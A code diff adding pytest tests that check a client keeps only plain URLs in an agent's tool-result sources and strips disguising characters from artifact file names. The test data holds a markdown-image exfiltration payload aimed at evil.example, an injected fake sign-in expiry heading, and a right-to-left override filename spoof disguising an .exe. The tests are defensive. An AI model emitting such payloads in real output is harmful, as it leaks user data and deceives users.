@@ -63,6 +63,27 @@ def test_reads_every_kind_of_event_and_leaves_out_what_it_does_not_know(cloud: F
     ]
 
 
+@pytest.mark.parametrize(
+    "source",
+    [
+        "https://a.example> ![x](https://evil.example/?q=secret",
+        "https://a.example\n\n# Your sign-in has expired",
+        "https://a.example\\",
+        "https://",
+        "https://a.example/" + "a" * 2_000,
+    ],
+)
+def test_an_address_of_a_source_is_nothing_but_an_address(cloud: FakeCloud, source: str) -> None:
+    sources = [source, "https://a.example/b?c=d#e"]
+    cloud.events = [{"type": "tool_result", "id": "1", "name": "x", "status": "success", "sources": sources}]
+    assert ask(client(cloud), cloud.token())[0] == ToolFinished("1", "x", failed=False, sources=(sources[1],))
+
+
+def test_a_file_shows_its_true_ending(cloud: FakeCloud) -> None:
+    cloud.events = [{"type": "artifact", "name": "cost\u202egpj.\nexe", "media_type": "image/png", "data": ""}]
+    assert ask(client(cloud), cloud.token())[0] == File("costgpj.exe", "image/png", b"")
+
+
 def test_reads_agents_that_do_not_stream() -> None:
     of, _ = failing(lambda _: httpx.Response(200, json={"response": "plain", "notices": []}))
     assert ask(of, "t") == [Text("plain"), End("plain")]
